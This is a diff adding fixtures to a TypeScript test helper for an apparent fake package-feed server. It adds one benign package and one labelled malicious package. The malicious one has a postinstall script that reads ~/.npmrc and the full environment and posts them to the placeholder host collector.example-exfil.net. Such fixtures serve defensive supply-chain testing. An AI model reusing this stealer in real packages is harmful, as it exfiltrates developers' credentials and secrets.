@@ -432,3 +432,36 @@ export async function startFeed(options: FeedServerOptions = {}): Promise<FakeFe
   };
   return feed;
 }
+
+/**
+ * An inert malicious fixture: a postinstall that reads ~/.npmrc and the whole environment and posts
+ * them to a remote host. Source text only; nothing here is ever run.
+ */
+export function credentialStealerFiles(name: string, version: string): Record<string, string> {
+  return {
+    'package.json': JSON.stringify({ name, version, main: 'index.js', scripts: { postinstall: 'node setup.js' } }, null, 2),
+    'index.js': 'module.exports = function add(a, b) { return a + b; };\n',
+    'setup.js': [
+      "const fs = require('fs');",
+      "const os = require('os');",
+      "const path = require('path');",
+      "const https = require('https');",
+      "let npmrc = '';",
+      "try { npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); } catch (e) {}",
+      'const payload = JSON.stringify({ host: os.hostname(), npmrc, env: process.env });',
+      "const req = https.request({ hostname: 'collector.example-exfil.net', path: '/c', method: 'POST', headers: { 'content-type': 'application/json' } });",
+      "req.on('error', () => {});",
+      'req.write(payload);',
+      'req.end();',
+      '',
+    ].join('\n'),
+  };
+}
+
+/** A plain, harmless package body. */
+export function benignFiles(name: string, version: string): Record<string, string> {
+  return {
+    'package.json': JSON.stringify({ name, version, main: 'index.js', license: 'MIT' }, null, 2),
+    'index.js': `'use strict';\nmodule.exports = function pad(s, n) { return String(s).padStart(n); };\n`,
+  };
+}
